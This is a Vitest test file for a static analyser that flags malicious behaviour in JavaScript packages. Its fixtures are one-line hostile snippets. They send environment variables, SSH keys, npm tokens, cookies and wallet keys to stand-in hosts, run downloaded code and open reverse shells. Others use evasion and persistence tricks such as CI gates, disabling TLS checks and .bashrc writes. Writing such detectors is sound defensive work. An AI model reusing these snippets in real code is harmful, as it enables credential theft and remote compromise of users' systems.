import { describe, expect, test } from "vitest";

import { analyzeSource } from "./analyze-source.ts";
import type { SourceFacts } from "./source-facts.ts";

function read(text: string): SourceFacts {
  return analyzeSource({ path: "index.js", text, language: "javascript" });
}

/** Modules as esbuild wraps them, each by a closure of its own; the last is loaded. */
function bundleOf(modules: readonly string[]): string {
  const wrapped = modules.map((text, at) => `var r${at + 1}=w({"m${at}.js"(e,m){${text}}});`);
  return `var w=(cb,mod)=>function __require(){try{return mod||(0,cb[Object.getOwnPropertyNames(cb)[0]])((mod={exports:{}}).exports,mod),mod.exports}catch(e){throw mod=0,e}};${wrapped.join("")}r${modules.length}();`;
}

describe("analyzeSource follows what flows into", () => {
  test.each<readonly [string, string, readonly string[]]>([
    [
      "async function f(){try{await require('axios').get('https://a.invalid')}catch(e){new Function(e.response.data.t)()}}f()",
      "run-code",
      ["network"],
    ],
    [
      "require('request')('https://a.invalid',(e,r,b)=>{eval(JSON.parse(b).cookie)})",
      "run-code eval",
      ["network"],
    ],
    [
      "require('superagent').post('https://a.invalid').attach('f',process.env.HOME+'/.ssh/id_rsa').end()",
      "network superagent.post",
      ["credential-file"],
    ],
    [
      "const T=require('node-telegram-bot-api');new T('1:a').on('message',m=>require('child_process').exec(m.text))",
      "process child_process.exec",
      ["network"],
    ],
    [
      "require('https').get('https://a.invalid/?h='+require('os').hostname())",
      "network https.get",
      ["host-facts"],
    ],
    ["require('dns').lookup(require('os').hostname()+'.a.invalid',()=>{})", "dns", ["host-facts"]],
    [
      "fetch('https://a.invalid',{method:'POST',body:JSON.stringify(process.env)})",
      "network fetch",
      ["environment"],
    ],
    [
      "const d={...process.env};require('axios').post('https://a.invalid',d)",
      "network axios.post",
      ["environment"],
    ],
    [
      "const d={};for(const k in process.env)d[k]=process.env[k];fetch('https://a.invalid',{method:'POST',body:JSON.stringify(d)})",
      "network fetch",
      ["environment"],
    ],
    [
      "fetch('https://a.invalid/'+Object.entries(process.env).map(([k,v])=>k+'='+v).join('&'))",
      "network fetch",
      ["environment"],
    ],
    [
      "const t=process.env.NPM_TOKEN;fetch('https://a.invalid/',{headers:{x:t}})",
      "network fetch",
      ["environment"],
    ],
    [
      "const fs=require('fs'),os=require('os');const k=fs.readFileSync(os.homedir()+'/.ssh/id_rsa');require('https').request({host:'a.invalid',method:'POST'}).end(k)",
      "network https.request",
      ["credential-file"],
    ],
    [
      "const fs=require('fs');fs.createReadStream(process.env.HOME+'/.npmrc').pipe(require('https').request('https://a.invalid',{method:'PUT'}))",
      "network https.request",
      ["credential-file"],
    ],
    ["fetch('https://a.invalid/x').then(r=>r.text()).then(eval)", "run-code eval", ["network"]],
    [
      "require('https').get('https://a.invalid',r=>{let b='';r.on('data',c=>{b+=c});r.on('end',()=>{new Function('require',b)(require)})})",
      "run-code Function",
      ["network"],
    ],
    [
      "(async()=>{const r=await fetch('https://a.invalid/x');const t=await r.text();require('child_process').exec(t)})()",
      "process child_process.exec",
      ["network"],
    ],
    [
      "require('axios').get('https://a.invalid').then(({data})=>eval(data.cookie))",
      "run-code eval",
      ["network"],
    ],
    [
      "const f=require('fs');const o=f.createWriteStream('/tmp/x');require('https').get('https://a.invalid/x',r=>r.pipe(o))",
      "write-file fs.createWriteStream",
      ["network"],
    ],
    [
      "const {exec}=require('child_process');exec('env',(e,o)=>{fetch('https://a.invalid',{method:'POST',body:o})})",
      "network fetch",
      ["process"],
    ],
    [
      "const o=require('child_process').execSync('whoami').toString();fetch('https://a.invalid?u='+o)",
      "network fetch",
      ["process"],
    ],
    [
      "document.addEventListener('keydown',e=>navigator.sendBeacon('https://a.invalid',e.key))",
      "network navigator.sendBeacon",
      ["key-log"],
    ],
    ["fetch('https://a.invalid?c='+document.cookie)", "network fetch", ["browser-data"]],
    ["new Image().src='https://a.invalid?c='+document.cookie", "network Image#.src", ["browser-data"]],
    [
      "const x=new XMLHttpRequest();x.open('POST','https://a.invalid');x.send(localStorage.getItem('t'))",
      "network XMLHttpRequest#.open",
      ["browser-data"],
    ],
    [
      "const s=new WebSocket('wss://a.invalid');s.onopen=()=>s.send(JSON.stringify(process.env))",
      "network WebSocket",
      ["environment"],
    ],
    [
      "const s=require('net').connect(9,'a.invalid');const sh=require('child_process').spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)",
      "process child_process.spawn",
      ["network"],
    ],
    [
      "const c=new (require('net').Socket)();c.connect(9,'a.invalid',()=>{const sh=require('child_process').spawn('sh');c.pipe(sh.stdin);sh.stdout.pipe(c)})",
      "process child_process.spawn",
      ["network"],
    ],
    [
      "exports.check=function(seed){fetch('https://a.invalid',{headers:{k:seed}})}",
      "network fetch",
      ["wallet", "parameter"],
    ],
    [
      "module.exports=class{sign(k){require('https').get('https://a.invalid/'+k.secretKey)}}",
      "network https.get",
      ["wallet"],
    ],
    [
      "const b=[];require('https').get('https://a.invalid/a',r=>{r.on('data',c=>b.push(c)).on('end',()=>{require('fs').writeFileSync('/tmp/a.exe',Buffer.concat(b));require('child_process').execFile('/tmp/a.exe')})})",
      "write-file fs.writeFile",
      ["network"],
    ],
    [
      "const si=require('os');const info={a:si.hostname(),b:si.userInfo(),c:__dirname};const q=require('querystring').stringify({d:JSON.stringify(info)});var o={hostname:'a.invalid',method:'POST'};var r=require('https').request(o);r.write(q);r.end()",
      "network https.request",
      ["host-facts"],
    ],
    [
      "const TelegramBot=require('node-telegram-bot-api');const b=new TelegramBot('t');b.sendMessage(1,JSON.stringify(process.env))",
      "network telegram.Bot#.sendMessage",
      ["environment"],
    ],
    [
      "const {WebhookClient}=require('discord.js');new WebhookClient({url:'https://discord.invalid/x'}).send({content:process.env.TOKEN})",
      "network discord.Webhook#.send",
      ["environment"],
    ],
    [
      "const fd=new FormData();fd.append('f',require('fs').readFileSync('/root/.aws/credentials'));fetch('https://a.invalid',{method:'POST',body:fd})",
      "network fetch",
      ["credential-file"],
    ],
    [
      "export default {send:(x)=>fetch('https://a.invalid/',{headers:{a:x}})}",
      "network fetch",
      ["parameter"],
    ],
    [
      "var o=(r,e)=>()=>{try{return e||r((e={exports:{}}).exports,e),e.exports}catch(t){throw e=0,t}};var d=o((j,p)=>{p.exports={K:class{constructor(x){fetch('https://a.invalid/',{headers:{a:x}})}}}});export default d();",
      "network fetch",
      ["parameter"],
    ],
    [
      "class Base{send(x){fetch('https://a.invalid/'+x)}}class Client extends Base{}module.exports=new Client()",
      "network fetch",
      ["parameter"],
    ],
    [
      bundleOf([
        "function gather(){if(!inv())return void 0;return require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8')}m.exports={gather}",
        "function deliver(t){if(!t)return;const s=require('https').request({hostname:'a.invalid',method:'POST'});s.end(t)}m.exports={deliver}",
        "m.exports=1",
        "m.exports=2",
        "m.exports=r3()+r4()",
        "r5();r2().deliver(r1().gather())",
      ]),
      "network https.request",
      ["credential-file"],
    ],
    ["exports.mail={send:[(x)=>fetch('https://a.invalid/'+x)]}", "network fetch", ["parameter"]],
    [
      "function f(z){fetch('https://a.invalid/?k='+z)}exports.K=class{constructor(e,t){this.privateKey=e,f(e),this.publicKey=t}}",
      "network fetch",
      ["wallet"],
    ],
    ["exports.of=(e)=>(fetch('https://a.invalid/'+e),{mnemonic:e})", "network fetch", ["wallet"]],
  ])("%s", (text, effect, sources) => {
    const { effects } = read(text);

    const found = effects.filter(({ kind, api }) => `${kind} ${api}`.startsWith(effect));
    expect(
      found.some((one) => sources.every((source) => one.sources.some((known) => known === source))),
    ).toBe(true);
  });
});

describe("analyzeSource tells", () => {
  test.each<readonly [string, string]>([
    [
      "process.env['NODE_TLS_REJECT_UNAUTHORIZED']='0';require('https').get('https://a.invalid')",
      "silence process.env.NODE_TLS_REJECT_UNAUTHORIZED",
    ],
    ["if(process.env.CI)process.exit();require('child_process').exec('echo hi')", "gate process.env.CI"],
    [
      "if(Intl.DateTimeFormat().resolvedOptions().timeZone==='Asia/X')require('child_process').exec('echo hi')",
      "gate",
    ],
    ["if(new Date()>new Date(2026,1,1))require('child_process').exec('echo hi')", "gate"],
    ["const o=window.fetch;window.fetch=async(...a)=>{return o(...a)}", "replace-global fetch"],
    ["XMLHttpRequest.prototype.send=function(b){}", "replace-global XMLHttpRequest#.send"],
    ["process.on('uncaughtException',()=>{})", "silence process.on"],
    ["require('fs').appendFileSync(require('os').homedir()+'/.bashrc','x')", "persist fs.appendFile"],
    [
      "const fs=require('fs');fs.renameSync(__dirname+'/package.md',__dirname+'/package.json');fs.unlinkSync(process.argv[1])",
      "rename-file fs.rename",
    ],
    ["require('child_process').execSync('npm publish --access public')", "publish"],
    [
      "import cp from 'child_process';const a=new URL('./x.sh',import.meta.url);cp.spawn('sh',[a.pathname])",
      "process",
    ],
  ])("%s", (text, effect) => {
    const { effects } = read(text);

    expect(effects.map(({ kind, api }) => `${kind} ${api}`).some((one) => one.startsWith(effect))).toBe(true);
  });
});

describe("analyzeSource says of honest code", () => {
  test.each<readonly [string, readonly string[]]>([
    ["module.exports = (a, b) => a + b;", []],
    ["export class Stack { #items = []; push(x) { this.#items.push(x); } }", []],
    ["const re = /a+/; export const clean = (s) => s.replace(re, '').split(',').map((x) => x.trim());", []],
    [
      "/** eval(process.env) */ const text = 'require(\\'child_process\\').exec(1)'; module.exports = text;",
      [],
    ],
    [
      "const env = process.env.NODE_ENV; if (env !== 'production') console.log('dev');",
      ["read-environment", "gate"],
    ],
  ])("%s: only what it does", (text, kinds) => {
    const { effects } = read(text);

    expect(effects.every(({ kind }) => kinds.includes(kind))).toBe(true);
  });

  test("that a yes or no about the text of a native function hides nothing in what is compiled", () => {
    const { effects } = read(
      "const isFast=/^.+$|true/.test(Object.keys+!!x.y);Function('a','return '+template({isFast,text:'a'}))",
    );

    expect(effects.map(({ kind, sources }) => [kind, sources])).toEqual([["run-code", []]]);
  });
});

describe("analyzeSource tells what files of a package share:", () => {
  test("a call of another file with what is secret", () => {
    const { imports } = read("const { send } = require('./send'); send(process.env);");

    expect(imports).toMatchObject([
      { specifier: "./send", name: "send", calledWith: ["environment"], parameter: 0 },
    ]);
  });

  test("a parameter of an export that reaches the network", () => {
    const { effects, exports } = read(
      "exports.send = (data) => fetch('https://a.invalid', { method: 'POST', body: data });",
    );

    const [reach] = exports.flatMap((one) => one.reaches);
    expect(reach?.parameter).toBe(0);
    expect(effects[reach?.effect ?? -1]?.api).toBe("fetch");
  });

  test("a parameter of a function inside of a default export, and of a class", () => {
    const { exports } = read(
      "class Client { send(data) { fetch('https://a.invalid/' + data); } } export { Client }; export default { post: (a, data) => fetch('https://b.invalid/' + data) };",
    );

    const reached = exports.flatMap(({ name, reaches }) => reaches.map(({ parameter }) => [name, parameter]));
    expect(reached).toEqual([
      ["post", 1],
      ["Client", 0],
    ]);
  });

  test("what exports give, and not what is somewhere inside of them", () => {
    const { exports } = read(
      "exports.Config = class { all() { return process.env; } }; exports.all = () => process.env;",
    );

    const carried = exports.filter(({ carries }) => carries.includes("environment"));
    expect(carried.map(({ name }) => name)).toEqual(["all"]);
  });

  test("a secret that an export gives", () => {
    const { exports } = read(
      "exports.load = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc');",
    );

    expect(exports.find(({ name }) => name === "load")?.carries).toContain("credential-file");
  });

  test("that a worker compiles what it is handed, and no download", () => {
    const { effects } = read(
      "self.addEventListener('message',({data})=>postMessage(new Function('return ('+data.run+')()')()))",
    );

    const compiled = effects.filter(({ kind }) => kind === "run-code");
    expect(compiled).toHaveLength(1);
    expect(compiled[0]?.sources).not.toContain("network");
  });
});
